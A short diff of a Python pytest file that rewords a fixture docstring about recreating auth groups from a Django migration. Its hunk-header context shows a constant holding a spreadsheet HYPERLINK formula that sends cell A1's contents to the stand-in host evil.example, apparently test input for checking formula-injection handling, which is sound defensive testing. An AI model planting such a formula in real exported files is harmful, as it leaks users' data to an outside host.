@@ -31,8 +31,8 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 
 @pytest.fixture(autouse=True)
 def groups(db):
-    """The groups as migration 0003 creates them (a transactional test's flush empties auth_group after the first
-    test): its own function, run again — which also shows it is safe to run twice."""
+    """The groups as steering_app migration 0003 creates them (a transactional test's flush empties auth_group after
+    the first test): its own function, run again — which also shows it is safe to run twice."""
     groups_migration.create_groups(global_apps, SimpleNamespace(connection=connection))
 
 
